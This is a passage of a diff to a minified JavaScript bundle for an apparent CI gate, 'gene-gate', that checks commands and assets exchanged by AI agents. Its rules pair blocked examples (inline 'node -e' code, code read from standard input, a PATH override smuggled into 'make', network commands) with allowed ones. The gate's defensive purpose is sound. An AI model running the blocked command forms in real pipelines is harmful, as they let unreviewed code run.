 .zip","unzip a.zip -d out",Ue),"constrained_form.zip":Sn("zip -r a.zip .","zip -r a.zip src",it),"constrained_form.ping":Sn(
 "ping host.test","ping -c 4 host.test",Pe),"constrained_form.curl":Sn("curl https://host.test",ee,Pe),"constrained_form.\
-dns":Sn("dig +short host.test","dig host.test",Pe),"constrained_form.other":Sn("make install","make test",{},tn),argument_refused:i(
+dns":Sn("dig +short host.test","dig host.test",Pe),"constrained_form.other":Sn("make install","make test",{},nn),argument_refused:i(
 {title:"Argument is not in the description of the family",why:"A flag changes what a program does. With too few operands\
 , a program reads standard input or uses another location; with too many, it reaches files that were not intended. So th\
 e flags, the operands and their number are those of the description.",wrong:"wc --files0-from=list",right:"wc -l notes.m\
@@ -917,8 +917,8 @@ rget."}),writes_files:o({writes:!0,...fn,title:"Command writes files",why:"The c
 ine.",wrong:{command:"tee out.txt",policy:Bn},message:"This command writes files."}),experimental_mode:o({...fn,title:"P\
 roposal is experimental",why:"Experimental proposals pass the same checks and require the strongest confirmation. This w\
 arning alone does not change the verdict from allow to warn.",wrong:{command:"cat notes.md",context:{proposal_mode:"expe\
-rimental"}},message:"Experimental mode requires very strong confirmation."})},"`curated`");function $C(){const p={capsule_id:"\
-capsule_1"},w=De({id:"evt_2",...p,parent:"evt_1"});return{candidates:[ce()],events:[De({id:"evt_1",...p}),w]}}const RC=c(
+rimental"}},message:"Experimental mode requires very strong confirmation."})},"`curated`");function TC(){const p={capsule_id:"\
+capsule_1"},w=De({id:"evt_2",...p,parent:"evt_1"});return{candidates:[ce()],events:[De({id:"evt_1",...p}),w]}}const IC=c(
 "asset","bookkeeping",{"capsule-not-eligible":i({counted:["why"],title:"Capsule is not one that is offered to other agen\
 ts",why:"Other agents receive only solutions that worked well, and that are small and safe: `outcome.status` is `success\
 `, `outcome.score` is at least `min_score` (0.7), and `blast_radius` has at most `max_files` files (5) and `max_lines` l\
@@ -935,16 +935,16 @@ sule (`capsule_id`) from the newest to the oldest and counts the successes befor
 t be at least `min_success_streak` of the policy (2). The `success_streak` of the Capsule is a claim and does not count.\
  A success counts only if it is evidence: it was in the log before the change that is judged, the hash of its content is\
  in `asset_id`, no earlier event with other content has its `id`, its `parent` is in the log before it, and it names the\
- gene of the Capsule in `genes_used`.",wrong:{candidates:[ce({success_streak:9})],events:[]},right:{...$C(),candidates:[
+ gene of the Capsule in `genes_used`.",wrong:{candidates:[ce({success_streak:9})],events:[]},right:{...TC(),candidates:[
 ce({success_streak:2})]},configure:`a2a:
   min_success_streak: 2`,message:({capsule:p,streak:w,least:A,uncounted:J})=>`The Capsule \`${p}\` is not eligible: the e\
 vents show ${w} consecutive ${w===1?"success":"successes"}, but the policy requires ${A}${J.map(ye=>`; ${ye}`).join("")}\
 .`,remedy:"Apply the Capsule again, and append the complete events of its cycles to the log."})}),cr=Me(...Array.from({length:9},
 (p,w)=>({id:`evt_${w+1}`,...w>0&&{parent:`evt_${w}`},capsule_id:"capsule_1"}))).head;function ur(p,w){return{head:{[z]:[
-ce(p)],...w}}}function Xc(p,w={}){const J={protocol:"gep-a2a",message_type:"publish",sender_id:"node_7",...w,payload:{...p,
+ce(p)],...w}}}function qc(p,w={}){const J={protocol:"gep-a2a",message_type:"publish",sender_id:"node_7",...w,payload:{...p,
 asset:{type:"Mutation",id:"mut_1",category:"repair",trigger_signals:["log_error"],target:"gene:gene_a",expected_effect:"\
 The error is gone.",risk_level:"low"}}};return`${JSON.stringify(J,null,2)}
-`}const NC=c("asset","bookkeeping",{"event-parent-missing":i({instance:["fix"],group:"log",unproven:!0,title:"Parent of \
+`}const $C=c("asset","bookkeeping",{"event-parent-missing":i({instance:["fix"],group:"log",unproven:!0,title:"Parent of \
 an event does not exist",why:"`parent` names the previous event. If no asset file contains it, the log has a gap: a cycl\
 e was omitted, or the event was written by hand. An event that is appended to an audit log has its parent there; in a pr\
 omotion, it is there or among the candidates. For the first event of a log, whose history may be elsewhere, and outside \
@@ -987,12 +987,12 @@ _bytes` in the policy on the base branch."}),"envelope-contradicts-asset":i({oth
 tradicts the asset that it contains",why:"A message between agents, and each entry in the answer of a hub, says beside t\
 he asset which asset it is: `asset_id`, `content_hash`, `asset_type`, `type` or `local_id`. If this differs from the ass\
 et, one of the two was edited, or they are about different assets. Readers that trust different parts of it would accept\
- different assets.",wrong:{head:{[j]:Xc({local_id:"mut_other"})}},right:{head:{[j]:Xc({local_id:"mut_1"})}},message:"The\
+ different assets.",wrong:{head:{[j]:qc({local_id:"mut_other"})}},right:{head:{[j]:qc({local_id:"mut_1"})}},message:"The\
  object that contains the {type} `{id}` states `{field}` {stated}, but the asset has {actual}.",remedy:"Request the asse\
-t again from its sender."})}),FC=new Set(["bun","deno","python","python3"]),Qc={policy:`programs: [make]
+t again from its sender."})}),RC=new Set(["bun","deno","python","python3"]),Wc={policy:`programs: [make]
 `,files:{Makefile:`test:
 	node scripts/check.js
-`}};function Ui(p,w){return w===""?`\`${p}\``:`\`${p} ${w}\``}const LC=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,PC=c(
+`}};function Ui(p,w){return w===""?`\`${p}\``:`\`${p} ${w}\``}const NC=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,FC=c(
 "invocation","broken",{"unknown-flag":i({title:"Flag is unknown",why:"A flag decides what runs, and an unknown flag may \
 take the next word as its value. It can be newer than the tables of the gate, or misspelled. Of npm, only the flags that\
  say which scripts run, and how much it prints, are known: npm 10 and 11 discard or complete one that they do not have, \
@@ -1011,9 +1011,9 @@ removable:!0,title:"Command runs code that is no file of the commit",why:"Inline
 ins and configuration from elsewhere, and programs that a tool starts are not read as the code of the commit is. What op\
 ens a debugger or a shell runs whatever is sent to it.",wrong:`node -e "require('./check')"`,right:"node scripts/validat\
 e/check.cjs",message:({program:p,flag:w})=>w===p||/['"`]/.test(w)?`\`${p}\` starts other code than files of the commit.`:
-`${Ui(p,w)} runs code that is no file of the commit.`,remedy:({program:p,flag:w})=>w.startsWith("-")&&!LC.test(w)?`Remov\
+`${Ui(p,w)} runs code that is no file of the commit.`,remedy:({program:p,flag:w})=>w.startsWith("-")&&!NC.test(w)?`Remov\
 e \`${w}\`: keep code and configuration in files of the commit that the program finds by itself.`:`Move the code into a \
-script in the repository, and run it with \`${FC.has(p)?p:"node"}\`; write what is started as a command of its own.`}),"\
+script in the repository, and run it with \`${RC.has(p)?p:"node"}\`; write what is started as a command of its own.`}),"\
 uses-network":i({harm:"danger",removable:!0,title:"Command downloads, installs, publishes, or asks a server",why:"What a\
  server answers changes over time, and an installation runs scripts of packages. npx downloads and runs a package that i\
 t does not find, and a version, tag, path, or address names something to download. A validation command only reads; it h\
@@ -1053,8 +1053,8 @@ he program runs whatever it receives.",wrong:"node -",right:"node scripts/check.
 ""?"The command":`\`${w}\``} makes \`${p}\` read code from standard input.`,remedy:"Name a script in the repository."}),
 "make-variable":i({harm:"danger",title:"Command sets a variable of the build files",why:"A variable on the command line \
 replaces the one of the Makefile, becomes part of shell text, and is in the environment of every recipe: it can name the\
- program that runs, or the path on which programs are found.",wrong:{...Qc,command:"make test PATH=tools:/usr/bin"},right:{
-...Qc,command:"make test V=1",also:{"build-files-unread":"The Makefile decides what runs."}},configure:"make_variables: \
+ program that runs, or the path on which programs are found.",wrong:{...Wc,command:"make test PATH=tools:/usr/bin"},right:{
+...Wc,command:"make test V=1",also:{"build-files-unread":"The Makefile decides what runs."}},configure:"make_variables: \
 [TESTS]",message:"`{program} {variable}=\u2026` sets a variable for the build files and the programs that they start.",remedy:"\
 Set `{variable}` in the build file, or allow it with `make_variables: [{variable}]` in the policy of the base branch."}),
 "only-prints":o({title:"Command only prints information",why:"The command does not check the change, so it passes whatev\
@@ -1081,14 +1081,14 @@ jobs:
     steps:
       - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
       - uses: gene-gate/gene-gate@63a8eb7b1989eae6dc40680f790cf1bbb629a298
-`;function eu(p){return{base:p,head:{...p,"src/index.js":`work();
-`}}}const jC=ts.replace("- uses: gene",`- run: ./setup.sh
-      - uses: gene`),tu={base:{[jt]:`fail_on: warning
+`;function Vc(p){return{base:p,head:{...p,"src/index.js":`work();
+`}}}const LC=ts.replace("- uses: gene",`- run: ./setup.sh
+      - uses: gene`),Yc={base:{[jt]:`fail_on: warning
 `},head:{[jt]:`fail_on: error
-`}},MC={"AGENTS.md":`<!-- gene-gate:begin v1 -->
+`}},PC={"AGENTS.md":`<!-- gene-gate:begin v1 -->
 Do not add ignores.
 <!-- gene-gate:end -->
-`},GC={"protected-path":"The default list protects agent instructions."},nu=`profile: curated
+`},jC={"protected-path":"The default list protects agent instructions."},Xc=`profile: curated
 mode: dangerous
 allow_dangerous: true
 families:
@@ -1098,21 +1098,21 @@ families:
       forms: { scripts/check.js: {} }
       match: ['node scripts/check.js']
       not_match: ['node scripts/other.js']
-`,su=50;function Zi(p){const w=p.length-su;return`${p.slice(0,su).join("; ")}${w>0?`; and ${w} more`:""}`}const ru=12;function HC(p){
-const w=p.length-ru;return`${(0,s.p)(p.slice(0,ru))}${w>0?`, and ${w} more lines`:""}`}function iu(p,w,A,J){return w==="\
+`,Qc=50;function Zi(p){const w=p.length-Qc;return`${p.slice(0,Qc).join("; ")}${w>0?`; and ${w} more`:""}`}const eu=12;function MC(p){
+const w=p.length-eu;return`${(0,s.p)(p.slice(0,eu))}${w>0?`, and ${w} more lines`:""}`}function tu(p,w,A,J){return w==="\
 review"?`Ask ${p===1?"a person":Ki(p)} with write access, other than the author, to approve the pull request with a revi\
 ew that contains the line \`/gene-gate approve\`${J&&`, or \`/gene-gate approve ${J}\` for exactly this digest`}.`:`If ${A}\
-, run the gate again with \`--approve=${J}\`.`}function zC(p){return p.length===0?"no setting changes":`these settings c\
-hange after the merge: ${Zi(p)}`}function UC([p,...w]){return w.length===0?`\`${p}\` requires`:`\`${p}\` and ${w.length}\
- more of its commands require`}function ou(p,w){if(p===1)return"";const A=w===1?"one has":`${w} have`;return w===0?` fro\
-m ${Ki(p)}`:` from ${Ki(p)}, and ${A} approved`}function Ki(p){return p===2?"two people":`${p} people`}const au=3;function cu(p){
-if(p.length===0)return"";const w=p.length-au;return`; not counted: ${p.slice(0,au).join("; ")}${w>0?`; and ${w} more`:""}`}
-function JC(p,w){return`ignores:
+, run the gate again with \`--approve=${J}\`.`}function GC(p){return p.length===0?"no setting changes":`these settings c\
+hange after the merge: ${Zi(p)}`}function HC([p,...w]){return w.length===0?`\`${p}\` requires`:`\`${p}\` and ${w.length}\
+ more of its commands require`}function nu(p,w){if(p===1)return"";const A=w===1?"one has":`${w} have`;return w===0?` fro\
+m ${Ki(p)}`:` from ${Ki(p)}, and ${A} approved`}function Ki(p){return p===2?"two people":`${p} people`}const su=3;function ru(p){
+if(p.length===0)return"";const w=p.length-su;return`; not counted: ${p.slice(0,su).join("; ")}${w>0?`; and ${w} more`:""}`}
+function zC(p,w){return`ignores:
   - rule: ${p}
     where: { gene: gene_a }
     reason: The engine writes it from its next release on.
     expires: ${w}-12-31
-`}const ZC=c("policy","broken",{"policy-changed":a({shownWhole:!0,title:"Change edits the policy; the policy of the base\
+`}const UC=c("policy","broken",{"policy-changed":a({shownWhole:!0,title:"Change edits the policy; the policy of the base\
  branch applies",why:"The policy is always read from the base branch, so a change cannot allow its own content. An edit \
 of the policy applies from the next change on. The finding lists the keys that change, their old and new values, and whe\
 ther each change allows more or less, where this is known.",wrong:{base:{[jt]:`limits:
@@ -1122,7 +1122,7 @@ ther each change allows more or less, where this is known.",wrong:{base:{[jt]:`l
 `,[j]:[G()]}},right:{head:{[j]:[G()]},policy:`limits:
   command_timeout_seconds: 600
 `},message:({path:p,effects:w})=>`The change edits the policy \`${p}\`; the policy of the base branch applies to this cha\
-nge, and ${zC(w)}.`,remedy:"Merge the policy first, and then the change that needs it."}),"policy-broken":i({actor:"huma\
+nge, and ${GC(w)}.`,remedy:"Merge the policy first, and then the change that needs it."}),"policy-broken":i({actor:"huma\
 n",title:"Policy in the change is not valid",why:"The policy of the base branch applies to this change. After the merge,\
  the new policy applies to every change, and the gate never passes with a policy that it cannot read. A change that fixe\
 s the policy could not pass either. The policy is the regular file `.github/gene-gate.yml` and nothing else: with anothe\
@@ -1134,12 +1134,14 @@ y would apply and nobody would notice.",wrong:{head:{[jt]:`fail-on: warning
 e-weakened":o({shownWhole:!0,approval:"needed",harm:"danger",actor:"human",counted:["effects","approval"],title:"Change \
 weakens the gate",why:"A change that deletes or loosens the policy, or that touches what decides whether and how the gat\
 e runs, affects every later change, so it needs a person. The verdict is `needs_approval`, and no ignore silences it. Co\
-mpared with the base branch are: the effective policy; the YAML of each workflow that uses the action or the command lin\
-e, that calls such a workflow, or that its jobs call or need; new jobs anywhere whose name is, or can be, that of the ga\
-te's check; the `name` of the workflows that it waits for; and the files that stand in a step before the gate, or that s\
-uch an installation reads ([`gate-runs-late`](gate-runs-late.md)). Comments, names of steps, other workflows, and a work\
-flow that is only renamed need nobody. A first policy and a first workflow weaken nothing.",wrong:{base:{[jt]:`fail_on: \
-warning
+mpared with the base branch are: the effective policy; the YAML of each workflow and local action that mentions the gate\
+ (`gene-gate` in any word, the name of its check), that such a file calls, or whose `name` it waits for; new jobs anywhe\
+re whose name is, or can be, that of the gate's check; files whose path stands in a command of the gate's job or of a jo\
+b that it needs, or whose name contains `gene-gate`, documents and assets aside; and package.json, lockfiles and setting\
+s of package managers if one starts the gate or runs before it. If the job runs other code of the repository before the \
+gate, each changed code file counts ([`gate-runs-late`](gate-runs-late.md)). Comments, names of steps, other workflows, \
+and a workflow that is only renamed need nobody. A first policy and a first workflow weaken nothing.",wrong:{base:{[jt]:`\
+fail_on: warning
 `,[es]:ts},head:{[jt]:`fail_on: error
 `,[es]:ts.replace("on: [pull_request, merge_group]","on: merge_group")}},right:{base:{[jt]:`fail_on: error
 `,[es]:ts},head:{[jt]:`fail_on: warning
@@ -1149,30 +1151,30 @@ warning
 in \`${p}\`: ${Zi(w)}.`,remedy:({path:p,approval:w})=>w==="given"?"No action is required: the change is approved.":w?`Re\
 store \`${p}\` unless this is intended.`:`Restore \`${p}\`, or ask a person with write access to approve the change.`}),
 "gate-runs-late":a({actor:"human",counted:["steps","startsGate"],title:"Gate runs after code of the change",why:"What a \
-job runs before the gate can change the gate: its environment, its programs, its checkout. A `run` step, a local action \
-or an installation before the gate takes its files from the change; so does a package manager of the repository that sta\
-rts the gate, as `npx gene-gate` in the checkout. Every report says so once, until the workflow is changed. A change of \
-a file whose path stands in such a step, of the local action, or of what the package manager reads (package.json, lockfi\
-les, settings) needs a person ([`gate-weakened`](gate-weakened.md)). What these files read or start in turn is not follo\
-wed. See [the required check](../required-check.md#what-each-set-up-leaves-open).",wrong:eu({[es]:jC}),right:eu({[es]:ts}),
-message:({steps:p,startsGate:w})=>`A change can decide what the gate runs with: ${Zi(p)} ${p.length===1?"takes its":"tak\
-e their"} files from the change, ${w?"and starts the gate":"before the gate"}.`,remedy:({startsGate:p})=>p?"Use the acti\
-on at a commit, or start a pinned version outside of the checkout.":"Give the gate a job of its own, or publish its resu\
-lt from the default branch with `mode: publish`."}),"agent-instructions":o({actor:"human",counted:["lines","effect"],title:"\
-Block of gene-gate in the agent instructions is edited or out of date",why:"The block that `gene-gate init --agents` wri\
-tes into `AGENTS.md` (and, on request, `CLAUDE.md` and the rules of Cursor) tells agents what the gate accepts and what \
-they must not do. An edit of the block, its removal, or a fence, comment or fold around it is shown with its lines; a bl\
-ock of another version is a notice. Instructions protect nothing: the gate decides in the same way without them, so nobo\
-dy has to approve the edit.",wrong:{base:MC,head:{"AGENTS.md":`# Agents
+job runs before the gate can change the gate: its environment, its programs, its checkout. All steps before the gate cou\
+nt, but actions that check out or set up a language, and so does a gate that a script, a build file or a package manager\
+ of the repository starts, as `npx gene-gate` in the checkout. Every report says so once, until the workflow is changed.\
+ If such a step can run code of the repository, each changed code file needs a person ([`gate-weakened`](gate-weakened.m\
+d)), because nobody can say which files it reads; a job of its own avoids this. See [the required check](../required-che\
+ck.md#what-each-set-up-leaves-open).",wrong:Vc({[es]:LC}),right:Vc({[es]:ts}),message:({steps:p,startsGate:w})=>`A chang\
+e can decide what the gate runs with: ${Zi(p)} ${p.length===1?"takes its":"take their"} files from the change, ${w?"and \
+starts the gate":"before the gate"}.`,remedy:({startsGate:p})=>p?"Use the action at a commit, or start a pinned version \
+outside of the checkout.":"Give the gate a job of its own, or publish its result from the default branch with `mode: pub\
+lish`."}),"agent-instructions":o({actor:"human",counted:["lines","effect"],title:"Block of gene-gate in the agent instru\
+ctions is edited or out of date",why:"The block that `gene-gate init --agents` writes into `AGENTS.md` (and, on request,\
+ `CLAUDE.md` and the rules of Cursor) tells agents what the gate accepts and what they must not do. An edit of the block\
+, its removal, or a fence, comment or fold around it is shown with its lines; a block of another version is a notice. In\
+structions protect nothing: the gate decides in the same way without them, so nobody has to approve the edit.",wrong:{base:PC,
+head:{"AGENTS.md":`# Agents
 `}},right:{head:{"AGENTS.md":`# Agents
-`},also:GC},message:({path:p,effect:w,lines:A})=>`The block of gene-gate in \`${p}\` ${w}${A.length>0?`: ${HC(A)}`:""}.`,
+`},also:jC},message:({path:p,effect:w,lines:A})=>`The block of gene-gate in \`${p}\` ${w}${A.length>0?`: ${MC(A)}`:""}.`,
 remedy:"Run `gene-gate init --agents`, and commit the file."}),"gate-approval-missing":o({approval:"waits",harm:"danger",
 actor:"human",counted:["weakens","runs"],title:"Change of the gate waits for approval",why:"A change that weakens the ga\
 te needs the approval of as many people as `approvals.gate` of the base policy says, given as for a command: see [approv\
 als](../approvals.md). With `agent_files.level: approve`, so does a change that makes machines run something else.",wrong:{
-...tu,approvedBy:["author"]},right:{...tu,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({
+...Yc,approvedBy:["author"]},right:{...Yc,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({
 needed:p,given:w,refusals:A,weakens:J,runs:ye})=>`The change ${[...J?["weakens the gate"]:[],...ye?["makes machines run \
-something else"]:[]].join(", ")} and waits for approval${ou(p,w)}${cu(A)}.`,remedy:({needed:p,means:w,digest:A,weakens:J})=>iu(
+something else"]:[]].join(", ")} and waits for approval${nu(p,w)}${ru(A)}.`,remedy:({needed:p,means:w,digest:A,weakens:J})=>tu(
 p,w,J?"the gate may become weaker as described":"machines may run this",A)}),"input-loosens-policy":o({harm:"danger",actor:"\
 human",title:"Action input that loosens the policy is ignored",why:"On a pull request, the workflow file comes from the \
 change itself, so its inputs can only tighten the policy of the base branch. An input that allows more is ignored. A pro\
@@ -1184,7 +1186,7 @@ ver`.",wrong:{head:{},inputs:{"command-timeout-seconds":3600}},right:{head:{},po
 ption in the policy has no effect",why:"A policy can soften warnings, and errors about what an asset claims or how much \
 it touches. It cannot soften what protects the machine. An ignore, or a level with `until`, is temporary: after its last\
  day the finding counts again, and the exception is reported until the cause is fixed or a person sets a new date. An ig\
-nore that covers nothing hides the next finding of its rule.",wrong:{...te({validation:['node -e "1"']}),policy:JC("outs\
+nore that covers nothing hides the next finding of its rule.",wrong:{...te({validation:['node -e "1"']}),policy:zC("outs\
 ide-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:Ji,message:"{exception} in the \
 policy has no effect: {refusal}.",remedy:"Fix what the rule reports and remove the exception, or correct its rule or dat\
 e."}),"approval-missing":a({approval:"waits",actor:"human",title:"Gene waits for approval",why:"The policy allows these \
@@ -1192,18 +1194,18 @@ commands only after approval: strong confirmation is for dangerous commands and 
 firmation is for experimental commands and requires two, unless `approvals` in the policy sets other numbers. No command\
  of the gene runs before the approval, and the verdict is `needs_approval`. An approval applies to the files of the head\
 , the base branch, the commands and the policy, so every push ends it, unless it changes only files that `approvals.unaf\
-fected_by` in the policy names; a base branch that moves on does not. See [approvals](../approvals.md).",wrong:{...Ji,policy:nu,
-approvedBy:["author"]},right:{...Ji,policy:nu,approvedBy:["alice"]},configure:`A policy whose profile does not require c\
+fected_by` in the policy names; a base branch that moves on does not. See [approvals](../approvals.md).",wrong:{...Ji,policy:Xc,
+approvedBy:["author"]},right:{...Ji,policy:Xc,approvedBy:["alice"]},configure:`A policy whose profile does not require c\
 onfirmation, such as evolver, waits only for scripts that nobody can read.
 A gene whose commands are neither dangerous nor experimental, and run no such script, never waits.`,message:({gene:p,confirmation:w,
-needed:A,given:J,commands:ye,refusals:$t})=>`The gene \`${p}\` waits for approval: ${UC(ye)} ${w} confirmation${ou(A,J)}${cu(
-$t)}.`,remedy:({needed:p,means:w,digest:A})=>iu(p,w,"these commands may run with the files of this commit",A)})});function KC(p=[]){
-const w=["node","npm","npx",...p].map(A=>`\`${A}\``);return`${w.slice(0,-1).join(", ")}, and ${w.at(-1)}`}const WC=new Set(
-": cd echo exit export false printf pwd return set true umask unset wait".split(" "));function qC(p){return`Move what \`${p}\
-\` does into a Node script and run it with \`node\``}const VC=/^(?:interpreter|builder|manager|other)$/,YC=/^[A-Za-z][\w.+-]*$/;
-function uu({program:p,group:w="",offered:A="",word:J=""}){const ye="in the policy of the base branch";return A!==""?`, \
-or ${J===""?"":`write \`${J}\` and `}add \`${A}\` to \`programs\` ${ye}`:VC.test(w)&&YC.test(p)?`, or describe the progr\
-am with \`families\` and add it to \`programs\` ${ye}`:""}const XC=c("program","broken",{"command-not-text":i({anyText:!0,
+needed:A,given:J,commands:ye,refusals:$t})=>`The gene \`${p}\` waits for approval: ${HC(ye)} ${w} confirmation${nu(A,J)}${ru(
+$t)}.`,remedy:({needed:p,means:w,digest:A})=>tu(p,w,"these commands may run with the files of this commit",A)})});function JC(p=[]){
+const w=["node","npm","npx",...p].map(A=>`\`${A}\``);return`${w.slice(0,-1).join(", ")}, and ${w.at(-1)}`}const ZC=new Set(
+": cd echo exit export false printf pwd return set true umask unset wait".split(" "));function KC(p){return`Move what \`${p}\
+\` does into a Node script and run it with \`node\``}const qC=/^(?:interpreter|builder|manager|other)$/,WC=/^[A-Za-z][\w.+-]*$/;
+function iu({program:p,group:w="",offered:A="",word:J=""}){const ye="in the policy of the base branch";return A!==""?`, \
+or ${J===""?"":`write \`${J}\` and `}add \`${A}\` to \`programs\` ${ye}`:qC.test(w)&&WC.test(p)?`, or describe the progr\
+am with \`families\` and add it to \`programs\` ${ye}`:""}const VC=c("program","broken",{"command-not-text":i({anyText:!0,
 title:"Validation command is not a string",why:"Each entry of `validation` is one command line. Engines that convert oth\
 er values to text run a command that was never written: a nested list becomes its joined entries.",wrong:{command:["node\
  scripts/check.js"]},right:"node scripts/check.js",message:"A validation command must be a string, but this one has the \
@@ -1216,7 +1218,7 @@ d the gate locates them itself. A path can point to any file.",wrong:"./node_mod
 src",counted:["offered","word"],message:"The program `{program}` is a path; only `node`, `npm`, and `npx` are allowed.",
 remedy:({program:p,offered:w="",word:A=""})=>/(?:^|[\\/])node_modules[\\/]\.bin[\\/]/.test(p)?"Run the tool by its name,\
  without its path.":/\.[cm]?[jt]s$/.test(p)?"Run the script with `node`.":`Move the work into a Node script and run it w\
-ith \`node\`${uu({program:p,offered:w,word:A})}.`}),"program-look-alike":i({harm:"danger",title:"Program name does not m\
+ith \`node\`${iu({program:p,offered:w,word:A})}.`}),"program-look-alike":i({harm:"danger",title:"Program name does not m\
 atch exactly",why:"On Windows or a file system that ignores case, `NODE` or `node.exe` can be a different file than `nod\
 e`. Program names are compared exactly.",wrong:"Node scripts/check.js",right:"node scripts/check.js",message:"`{program}\
 ` is not `{meant}`; program names must match exactly.",remedy:"Write the name of the program as `{meant}`."}),"program-n\
@@ -1224,17 +1226,17 @@ ot-allowed":i({title:"Program is not allowed",why:"Validation runs on unattended
 available on all of them, and the gate understands every argument of these programs. A policy can allow other programs b\
 y name, with `programs`. Move anything else into a Node script.",wrong:"bash scripts/check.sh",right:"node scripts/check\
 .js",configure:"programs: [pytest, cargo]",counted:["offered","word","allowed"],message:({program:p,allowed:w})=>`\`${p}\
-\` is not an allowed program; only ${KC(w)} are allowed.`,remedy:p=>p.group==="npx"?`Add the package of \`${p.program}\` \
-to \`devDependencies\` and the lockfile, and run it with \`npx\`.`:WC.has(p.program)?`Write a command that fails if some\
-thing is wrong, such as \`node scripts/check.js\`; \`${p.program}\` checks nothing.`:`${qC(p.program)}${uu(p)}.`})},"`ev\
-olver` and `validator`"),lu={gene:"gene_b"},du={status:"success",score:.9,notes:"It went well."},Bu=[De({genes_used:["ge\
-ne_b"],capsule_id:"capsule_1"}),De({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],capsule_id:"capsule_1"})],fu={files:te(
-{summary:"Another one."}).head},hu="assets/gep/genes_revoked.json";function pu(p){return`${JSON.stringify({...{protocol:"\
+\` is not an allowed program; only ${JC(w)} are allowed.`,remedy:p=>p.group==="npx"?`Add the package of \`${p.program}\` \
+to \`devDependencies\` and the lockfile, and run it with \`npx\`.`:ZC.has(p.program)?`Write a command that fails if some\
+thing is wrong, such as \`node scripts/check.js\`; \`${p.program}\` checks nothing.`:`${KC(p.program)}${iu(p)}.`})},"`ev\
+olver` and `validator`"),ou={gene:"gene_b"},au={status:"success",score:.9,notes:"It went well."},cu=[De({genes_used:["ge\
+ne_b"],capsule_id:"capsule_1"}),De({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],capsule_id:"capsule_1"})],uu={files:te(
+{summary:"Another one."}).head},lu="assets/gep/genes_revoked.json";function du(p){return`${JSON.stringify({...{protocol:"\
 gep-a2a",message_type:"revoke",sender_id:"node_7"},payload:{target_local_id:p,reason:"It deletes files."}},null,2)}
-`}const ks={candidates:[G()],reports:[Ne()]},QC=c("promotion","bookkeeping",{"asset-revoked":i({harm:"danger",title:"Ass\
+`}const ks={candidates:[G()],reports:[Ne()]},YC=c("promotion","bookkeeping",{"asset-revoked":i({harm:"danger",title:"Ass\
 et is revoked",why:"A message of the type `revoke` withdraws a published asset. An asset that a message among the candid\
 ates or in the repository revokes is refused. If the repository already has the asset, the answer lists it in `revoked`.",
-wrong:{candidates:[G()],files:{[hu]:pu("gene_a")}},right:{candidates:[G()],files:{[hu]:pu("gene_other")}},message:({type:p,
+wrong:{candidates:[G()],files:{[lu]:du("gene_a")}},right:{candidates:[G()],files:{[lu]:du("gene_other")}},message:({type:p,
 id:w,by:A,why:J})=>`The ${p} \`${w}\` is revoked by \`${A}\`${J===""?"":`: ${J}`}.`,remedy:"Remove the asset where it is\
  used, and ask its author for another version."}),"unsafe-validation-command":i({harm:"danger",title:"Candidate has a va\
 lidation command that is not allowed",why:"If you promote a gene, its commands run in your repository from then on. A co\
@@ -1249,20 +1251,20 @@ at least one non-empty step to `strategy`."}),"id-unusable":i({title:"Id of a ca
 ts and other assets name an asset by its id. Control characters in it hide text or change its order, and nobody compares\
  ids of more than 200 characters. The repository keeps its own assets: a candidate never replaces an asset that has the \
 same id and different content, as in the reference engine. Of two candidates with the same id, the first is kept.",wrong:{
-candidates:[G()],...fu},right:{candidates:[G({id:"gene_a_from_agent_7"})],...fu},message:"The id of the {type} `{id}` {w\
+candidates:[G()],...uu},right:{candidates:[G({id:"gene_a_from_agent_7"})],...uu},message:"The id of the {type} `{id}` {w\
 hy}.",remedy:"Ask the author for the asset with another id, or rename it and hash it again to keep both."}),"fields-not-\
 hashed":a({instance:["fields"],title:"Fields of a Capsule are not covered by its hash",why:"A hub strips `outcome.notes`\
  and `outcome.details` from a Capsule before it hashes it. Anybody between its author and you can change these texts, an\
 d the hash still matches. A promoted Capsule is hashed again, and the new hash would make such a text look like the auth\
-or\u2019s. So the promoted Capsule does not contain it.",wrong:{candidates:[ce({outcome:du,asset_id:le.hub})]},right:{candidates:[
-ce({outcome:du,asset_id:le.own})]},message:"The `asset_id` of the Capsule `{capsule}` does not cover {fields}. The promo\
+or\u2019s. So the promoted Capsule does not contain it.",wrong:{candidates:[ce({outcome:au,asset_id:le.hub})]},right:{candidates:[
+ce({outcome:au,asset_id:le.own})]},message:"The `asset_id` of the Capsule `{capsule}` does not cover {fields}. The promo\
 ted Capsule leaves this text out.",remedy:"No action is required; to keep the text, ask the author for the Capsule with \
 the hash of its whole content."}),"bundle-incomplete":i({unproven:!0,title:"Candidate belongs to a bundle that is not pr\
 omoted",why:"Agents publish a Gene together with the Capsules that prove it, and hubs accept a bundle as a whole. What o\
 ne message or one archive contains is a bundle, and of its Genes with their Capsules all are promoted or none is. Any ot\
 her Capsule needs its Gene, because it cannot be applied without it; a Gene does not need the Capsules that others offer\
-.",wrong:{candidates:[G({id:"gene_b",strategy:[]}),ce(lu)],events:Bu,also:{"schema-field":"It is why the Gene is not pro\
-moted.","strategy-missing":"It is why the Gene is not promoted."}},right:{candidates:[G({id:"gene_b"}),ce(lu)],events:Bu},
+.",wrong:{candidates:[G({id:"gene_b",strategy:[]}),ce(ou)],events:cu,also:{"schema-field":"It is why the Gene is not pro\
+moted.","strategy-missing":"It is why the Gene is not promoted."}},right:{candidates:[G({id:"gene_b"}),ce(ou)],events:cu},
 instance:["type","id","otherType","other"],message:"The {type} `{id}` is not promoted because the {otherType} `{other}`,\
  which it needs or was sent with, is not.",remedy:"Fix the other asset, or pass the two in separate promotions."}),"noth\
 ing-to-promote":a({title:"Message or asset is nothing that agents exchange",why:"Agents offer Genes, Capsules and Evolut\
@@ -1314,38 +1316,38 @@ statement is a verification summary or a test result.",wrong:{candidates:[G()],r
 , and pass its evidence exactly as it was written, an attestation with the trusted root of its Sigstore instance."})});function At(p){
 return{head:{[j]:[G({validation:["node scripts/check.js"]})],"scripts/check.js":p},run:{}}}const ns=`containment: requir\
 e
-`;function mu(p){const{head:w}=At(p);return{head:{...w,"src/sum.js":`exports.sum = (a, b) => a + b;
